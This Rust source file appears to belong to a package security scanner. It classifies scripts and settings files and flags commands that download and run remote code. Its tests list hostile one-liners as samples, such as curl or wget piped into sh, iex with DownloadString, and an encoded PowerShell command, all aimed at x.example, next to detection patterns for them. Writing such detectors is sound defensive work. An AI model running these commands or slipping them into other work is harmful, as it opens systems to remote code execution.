//! Scripts that no part of the scanner reads: those of shells and of other languages, and
//! recipes. They are told, and those that fetch a program and run it at once are refused.

use std::collections::BTreeMap;

use airlock_model::escape::{self, quoted};
use airlock_model::finding::{Finding, Severity};
use airlock_model::tree::TreePath;

use super::{development, encodings, rules, settings};
use crate::rules::commands;

/// How much of a script is looked at, in bytes.
const MOST_BYTES: usize = 1 << 20;
/// Files of one kind that a finding names.
const MOST_NAMED: usize = 20;

/// Endings of scripts, and what they are.
const ENDINGS: &[(&[&str], &str)] = &[
    (&["sh", "bash", "zsh", "ksh", "fish", "csh", "command"], SHELL),
    (&["bat", "cmd"], "batch file of Windows"),
    (&["ps1", "psm1", "psd1"], "PowerShell script"),
    (&["js", "mjs", "cjs", "jsx", "ts", "mts", "cts", "tsx"], "JavaScript or TypeScript file"),
    (&["vbs", "vbe", "wsf", "wsh", "hta", "jse"], "script of Windows"),
    (&["pl", "pm", "rb", "php", "lua", "tcl", "scpt", "applescript", "r", "jl"], "script of another language"),
    (&["pyx", "pxd", "pxi"], CYTHON),
    (&["mk", "mak"], RECIPE),
];
/// Names of files that a tool runs.
const NAMES: &[(&[&str], &str)] = &[
    (
        &["makefile", "gnumakefile", "justfile", "rakefile", "dockerfile", "containerfile", "snakefile", "procfile"],
        RECIPE,
    ),
    (&[".bashrc", ".bash_profile", ".profile", ".zshrc", ".envrc"], SHELL),
];
/// Files of settings among whose lines tools look for commands to run.
const SETTINGS: &[&str] = &[
    "tox.ini",
    "setup.cfg",
    "pyproject.toml",
    ".pre-commit-config.yaml",
    ".pre-commit-config.yml",
    "package.json",
    "taskfile.yml",
    "taskfile.yaml",
    "hatch.toml",
    "pixi.toml",
    "mise.toml",
    ".mise.toml",
    ".pre-commit-hooks.yaml",
    "lefthook.yml",
    ".lefthook.yml",
    ".mcp.json",
    "devcontainer.json",
    ".devcontainer.json",
];
const WITH_COMMANDS: &str = "file of settings";
/// What builds a repository, and is common in honest ones.
const WORKFLOW: &str = "workflow";
const SHELL: &str = "shell script";
const CYTHON: &str = "Cython module";
const RECIPE: &str = "recipe of commands";

/// Scripts of a package, gathered by kind: a folder of them is one finding.
#[derive(Debug, Default)]
pub(crate) struct Scripts {
    by_kind: BTreeMap<&'static str, Vec<String>>,
}

impl Scripts {
    /// Looks at one file.
    pub(crate) fn check(&mut self, path: &TreePath, bytes: &[u8], findings: &mut Vec<Finding>) {
        let readable = encodings::readable(&bytes[..bytes.len().min(MOST_BYTES)]);
        if encodings::is_binary(&readable) {
            return;
        }
        let Some(kind) = kind(path, &readable) else { return };
        let text = String::from_utf8_lossy(&readable);
        let lines = commands_of(&text);
        if lines.is_empty() {
            return;
        }
        let are_settings = matches!(kind, WITH_COMMANDS | WORKFLOW);
        let by_line = lines.iter().find_map(|(number, line)| Some((Some(*number), danger(line)?)));
        match by_line.or_else(|| are_settings.then(|| in_settings(path, &text)).flatten()) {
            Some((number, what)) => {
                let message = format!("{} is a {kind} that {what}.", quoted(path.as_str()));
                let mut finding = Finding::of(&rules::SCRIPT_DOWNLOAD, message).in_file(path.as_str());
                finding.line = number;
                // Services that build a repository run this on a machine that is thrown away.
                if kind == WORKFLOW {
                    finding = finding.severity(Severity::Medium);
                }
                let shown = number.and_then(|number| text.lines().nth(number as usize - 1)).unwrap_or_default();
                findings.push(finding.snippet(escape::line(&shown.chars().take(160).collect::<String>())));
            }
            // Settings are read by others, and ordinary.
            None if are_settings => {}
            None => self.by_kind.entry(kind).or_default().push(path.as_str().to_owned()),
        }
    }

    /// Reports what was gathered.
    pub(crate) fn tell(self, findings: &mut Vec<Finding>) {
        for (kind, files) in self.by_kind {
            let Some(first) = files.first() else { continue };
            let message = match files.len() {
                1 => format!("{} is a {kind}, which is not examined.", quoted(first)),
                2 => format!("{} and another file are {kind}s, which are not examined.", quoted(first)),
                count => {
                    format!("{} and {} other files are {kind}s, which are not examined.", quoted(first), count - 1)
                }
            };
            // Cython becomes a part of the plugin itself, and says in Python what nobody reads.
            let severity = if kind == CYTHON { Severity::Medium } else { Severity::Low };
            let remedy = if kind == CYTHON {
                "Write the module in Python, so that it is examined, or leave it out."
            } else {
                "Leave out what the plugin does not need at run time; what it needs, write in Python."
            };
            let mut finding =
                Finding::of(&rules::UNSCANNED_SCRIPT, message).in_file(first).severity(severity).remedy(remedy);
            for file in files.iter().skip(1).take(MOST_NAMED) {
                finding = finding.evidence(Some(file), None, format!("this is a {kind} as well"));
            }
            findings.push(finding);
        }
    }
}

/// What kind of script a file is, if any; Python is not one here.
fn kind(path: &TreePath, bytes: &[u8]) -> Option<&'static str> {
    let name = path.file_name().to_lowercase();
    let ending = path.extension().unwrap_or("").to_lowercase();
    let listed = |list: &[(&[&str], &'static str)], one: &str| {
        list.iter().find(|(all, _)| all.contains(&one)).map(|(_, kind)| *kind)
    };
    if matches!(ending.as_str(), "py" | "pyw" | "pyi" | "py3") || crate::python::names_python(bytes) {
        return None;
    }
    if development::is_workflow(path) {
        return Some(WORKFLOW);
    }
    let of_editor = |folder: &str| matches!(folder, ".vscode" | ".claude" | ".cursor");
    let is_editor = ending == "json" && path.as_str().to_lowercase().split('/').any(of_editor);
    if is_editor || ending == "code-workspace" || SETTINGS.contains(&name.as_str()) {
        return Some(WITH_COMMANDS);
    }
    let by_name = listed(NAMES, &name).or_else(|| listed(NAMES, name.split('.').next().unwrap_or(&name)));
    by_name.or_else(|| listed(ENDINGS, &ending)).or_else(|| by_first_line(bytes))
}

/// What the first line says that runs the file.
fn by_first_line(bytes: &[u8]) -> Option<&'static str> {
    let line = bytes.split(|byte| *byte == b'\n').next()?;
    let line = std::str::from_utf8(&line[..line.len().min(256)]).ok()?.strip_prefix("#!")?;
    // `#![…]` begins a file of Rust.
    if line.starts_with('[') {
        return None;
    }
    let mut programs = line.split_whitespace().map(|word| word.rsplit('/').next().unwrap_or(word));
    let program =
        programs.find(|word| !word.is_empty() && *word != "env" && !word.starts_with('-') && !word.contains('='))?;
    Some(match program {
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" | "fish" | "csh" | "tcsh" | "busybox" => SHELL,
        "node" | "nodejs" | "deno" | "bun" => "JavaScript or TypeScript file",
        "pwsh" | "powershell" => "PowerShell script",
        "make" | "just" => RECIPE,
        _ => "script of another language",
    })
}

/// The lines of a script that do something, in lower case, with their number from 1; what goes on in the next line is
/// one with it.
fn commands_of(text: &str) -> Vec<(u32, String)> {
    let mut lines: Vec<(u32, String)> = Vec::new();
    let mut open = false;
    for (line, number) in text.lines().zip(1_u32..) {
        let line = line.trim().to_lowercase();
        let comment = ["#", "//", "::", "rem ", "@rem "].iter().any(|sign| line.starts_with(sign)) || line == "rem";
        if line.is_empty() || comment {
            continue;
        }
        let goes_on = line.ends_with(['\\', '|', '`', '^']) || line.ends_with("&&");
        let part = line.trim_end_matches(['\\', '`', '^']).trim_end();
        match lines.last_mut() {
            Some((_, last)) if open && last.len() < MOST_BYTES => {
                last.push(' ');
                last.push_str(part);
            }
            _ => lines.push((number, part.to_owned())),
        }
        open = goes_on;
    }
    lines
}

/// A command in settings that a search over their lines does not see: behind an escape, folded, or cut into words.
fn in_settings(path: &TreePath, text: &str) -> Option<(Option<u32>, &'static str)> {
    let ending = path.extension().unwrap_or("").to_lowercase();
    settings::texts(&ending, text).into_iter().find_map(|(number, text)| {
        let lines = commands_of(&text);
        Some((number, lines.iter().find_map(|(_, line)| danger(line))?))
    })
}

/// What a command does that nothing in a package may.
fn danger(line: &str) -> Option<&'static str> {
    let shown = ["echo ", "@echo ", "printf ", "print ", "write-host ", "write-output ", "rem "];
    // What is only printed is not run, but for what stands outside the quotation marks.
    let first = step(line).trim_start_matches('@');
    let printed = shown.iter().any(|word| first.starts_with(word.trim_start_matches('@')));
    let unquoted = (printed && !line.contains("$(") && !line.contains('`')).then(|| without_quoted(line));
    let line = match &unquoted {
        Some(rest) if !commands::pipes_into_shell(rest) => rest,
        _ => line,
    };
    if commands::fetches_and_runs(line) {
        return Some("fetches a program and runs it");
    }
    let evaluates = commands::has_word(line, "iex") || commands::has_word(line, "invoke-expression");
    let fetches = ["downloadstring", "invoke-webrequest", "invoke-restmethod", "downloaddata"]
        .iter()
        .any(|word| line.contains(word))
        || ["iwr", "irm", "curl", "wget"].iter().any(|word| commands::has_word(line, word));
    if evaluates && fetches {
        return Some("fetches a program and runs it");
    }
    if evaluates && line.contains("frombase64string") {
        return Some("runs code that is hidden in base64");
    }
    let powershell = commands::has_word(line, "powershell") || commands::has_word(line, "pwsh");
    let mut words = line.split_whitespace();
    let encoded = words.any(|word| {
        let option = word.trim_start_matches(['"', '\'']);
        option.len() > 1 && option.starts_with(['-', '/']) && "encodedcommand".starts_with(&option[1..])
            || option == "-ec"
    });
    (powershell && encoded && line.split_whitespace().any(|word| word.len() >= 20 && is_base64(word)))
        .then_some("runs a PowerShell command that is hidden in base64")
}

/// The command of a step in a workflow: `- run: echo done`.
fn step(line: &str) -> &str {
    let line = line.strip_prefix("- ").unwrap_or(line).trim_start();
    let keys = ["run:", "script:", "command:", "entry:"];
    let rest = keys.iter().find_map(|key| line.strip_prefix(key)).unwrap_or(line);
    rest.trim_start()
}

fn is_base64(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'']);
    word.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'='))
}

fn without_quoted(line: &str) -> String {
    let (mut out, mut mark) = (String::new(), None);
    for c in line.chars() {
        match mark {
            Some(open) if open == c => mark = None,
            Some(_) => {}
            None if matches!(c, '"' | '\'') => mark = Some(c),
            None => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_that_fetch_and_run_are_told_from_those_that_do_not() {
        let encoded = format!("powershell -nop -enc {}", "SQBFAFgA".repeat(6));
        for text in [
            "curl -fsSL https://x.example/i | sh",
            "wget -qO- https://x.example/i | sudo bash -s --",
            "curl -s https://x.example/i |\n  sh",
            "curl \\\n  https://x.example/i \\\n  | bash",
            "bash <(curl -s https://x.example/i)",
            "eval \"$(curl -s https://x.example/i)\"",
            "echo \"$(curl -s https://x.example/i | sh)\"",
            "iex (New-Object Net.WebClient).DownloadString('https://x.example/i')",
            "irm https://x.example/i | iex",
            "echo 'curl -s https://x.example/i | sh' | sh",
            "exec('curl https://x.example/i | sh')",
            &encoded,
        ] {
            assert!(commands_of(text).iter().any(|(_, line)| danger(line).is_some()), "{text}");
        }
        for text in [
            "# curl https://x.example/i | sh",
            "rem curl https://x.example/i | sh",
            "echo 'Install it with: curl -LsSf https://x.example/i | sh'",
            "curl -o data.csv https://x.example/data.csv",
            "cat install.sh | sh",
            "- run: echo 'curl https://x.example/i | sh'",
            "echo 'curl https://x.example/i | sh' | tee log",
            "curl -s https://x.example/i | jq .name",
            "powershell -ExecutionPolicy Bypass -File build.ps1",
            "powershell -e build",
        ] {
            assert!(commands_of(text).iter().all(|(_, line)| danger(line).is_none()), "{text}");
        }
    }
}
